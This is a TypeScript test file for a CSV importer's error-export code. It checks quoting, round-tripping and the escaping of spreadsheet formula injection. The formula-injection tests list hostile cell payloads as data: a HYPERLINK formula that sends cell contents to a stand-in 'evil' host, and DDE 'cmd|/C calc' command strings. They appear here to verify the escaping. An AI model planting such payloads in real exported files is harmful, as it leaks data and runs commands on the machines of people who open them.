import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { buildErrorCsv, csvField, describeRowErrors, escapeFormulaCell, unescapeFormulaCell } from './error-csv';
import { IMPORT_TARGETS } from './import-targets';
import { parseCsv } from './parse-file';
import { createRowValidator } from './validate-rows';

/** The error CSV read back as the importer reads an uploaded file (Papa Parse streaming, header row first). */
async function parseBack(csv: string): Promise<{ headers: string[]; rows: string[][] }> {
  const seen = { headers: [] as string[], rows: [] as string[][] };
  await parseCsv(new Blob([csv], { type: 'text/csv' }), {
    headers: (headers) => (seen.headers = headers),
    rows: (rows) => seen.rows.push(...rows),
    done: () => undefined,
  });
  return seen;
}

describe('csvField', () => {
  it('quotes only what needs quoting and doubles quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(' padded')).toBe('" padded"');
  });
});

describe('buildErrorCsv', () => {
  const headers = ['File No', 'Name', 'Balance'];
  const rows = [
    { row: 2, cells: ['F-2', 'Smith, "Jo"', '12.345'], errors: [{ row: 2, field: 'currentUpb', message: '“12.345” has more than two decimals (cents).' }] },
    { row: 5, cells: ['', 'Line\nbreak', '1,000.00'], errors: [{ row: 5, field: 'fileNumber', message: 'File number is required.' }] },
  ];

  it('round-trips through a CSV parser: original columns unchanged, then the row and its errors', () => {
    const parsed = Papa.parse<string[]>(buildErrorCsv(headers, rows), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toEqual([
      ['File No', 'Name', 'Balance', 'Import row', 'Import errors'],
      ['F-2', 'Smith, "Jo"', '12.345', '2', describeRowErrors(rows[0]?.errors ?? [])],
      ['', 'Line\nbreak', '1,000.00', '5', 'fileNumber: File number is required.'],
    ]);
  });

  it('drops error columns of an earlier round so a fixed file can fail and be fixed again', () => {
    const again = buildErrorCsv(['File No', 'Import row', 'Import errors'], [{ row: 1, cells: ['F-1', '9', 'old'], errors: [{ row: 1, field: 'x', message: 'new' }] }]);
    const parsed = Papa.parse<string[]>(again, { skipEmptyLines: true });
    expect(parsed.data).toEqual([
      ['File No', 'Import row', 'Import errors'],
      ['F-1', '1', 'x: new'],
    ]);
  });

  it('starts with a byte-order mark so spreadsheets read it as UTF-8', () => {
    expect(buildErrorCsv(headers, []).startsWith('\uFEFF')).toBe(true);
  });
});

describe('formula injection in the error CSV', () => {
  // Threat: CSV/formula injection (OWASP). The cells come from an untrusted client file; opened by
  // staff in Excel or LibreOffice, `=HYPERLINK("http://evil/?"&A1)` or `+cmd|…` would run as a formula.
  const dangerous = ['=HYPERLINK("http://evil/?"&A1)', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+cmd|\' /C calc\'!A0', '-2+3', '\t=1+1', '\r=1+1'];

  it('threat: no cell of the error CSV, headers and added columns included, starts with = + - @ TAB or CR', () => {
    const csv = buildErrorCsv(
      ['=Header', 'Name'],
      dangerous.map((cell, index) => ({ row: index + 1, cells: [cell, `-${cell}`], errors: [{ row: index + 1, field: '=field', message: cell }] })),
    );
    // Read as a spreadsheet would: every field, header row included, unquoted but not unescaped.
    const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(dangerous.length + 1);
    for (const cell of parsed.data.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    // The raw CSV, as a spreadsheet sees it before unquoting, never starts a field with a formula either.
    expect(csv).not.toMatch(/(?:^|[,\n])"?[=+\-@]/);
    for (const cell of dangerous) expect(escapeFormulaCell(cell)).toBe(`'${cell}`);
  });

  it('round-trips: a fixed error CSV re-imports to the original values, negative money and formula-looking text included', async () => {
    const headers = ['Client', 'File No', 'Balance', '-Operator'];
    const mapping = { Client: 'clientNumber', 'File No': 'fileNumber', Balance: 'currentUpb', '-Operator': 'operator' };
    const original = [
      ['C1', '-F-1', '-5.00', '=HYPERLINK("http://evil/?"&A1)'],
      ['C1', '@F-2', '+12.50', '-2+3'],
    ];
    const csv = buildErrorCsv(headers, original.map((cells, index) => ({ row: index + 1, cells, errors: [{ row: index + 1, field: 'x', message: 'fix me' }] })));
    expect(csv).toContain(`'-5.00`);
    const back = await parseBack(csv);
    expect(back.headers).toEqual([...headers, 'Import row', 'Import errors']);
    const validator = createRowValidator({ spec: IMPORT_TARGETS.AccountMdl, headers: back.headers, mapping, allowedClients: new Set(['C1']) });
    const records = back.rows.map((cells, index) => {
      const result = validator.validate(cells, index + 1);
      return result.ok ? result.record : result.errors;
    });
    expect(records).toEqual([
      { clientNumber: 'C1', fileNumber: '-F-1', currentUpb: -5, operator: '=HYPERLINK("http://evil/?"&A1)' },
      { clientNumber: 'C1', fileNumber: '@F-2', currentUpb: 12.5, operator: '-2+3' },
    ]);
  });

  it('keeps a leading quote that does not stand before a formula start, both ways', async () => {
    for (const cell of ["'plain", "'", "''=x", "'5.00", "O'Brien"]) {
      expect(escapeFormulaCell(cell)).toBe(cell);
      expect(unescapeFormulaCell(cell)).toBe(cell);
    }
    const back = await parseBack(buildErrorCsv(['Client', 'File No', 'Name'], [{ row: 1, cells: ['C1', 'F-1', "'plain"], errors: [] }]));
    const mapping = { Client: 'clientNumber', 'File No': 'fileNumber', Name: 'clientName' };
    const result = createRowValidator({ spec: IMPORT_TARGETS.AccountMdl, headers: back.headers, mapping, allowedClients: new Set(['C1']) }).validate(back.rows[0] ?? [], 1);
    expect(result.ok && result.record.clientName).toBe("'plain");
  });
});
